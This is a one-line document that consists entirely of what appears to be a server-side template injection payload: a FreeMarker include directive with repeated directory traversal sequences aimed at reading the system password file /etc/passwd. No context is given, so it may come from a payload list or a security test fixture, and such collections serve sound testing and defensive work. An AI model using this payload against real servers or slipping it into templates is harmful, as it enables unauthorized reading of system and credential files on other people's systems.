<#include "../../../../../../../../etc/passwd">
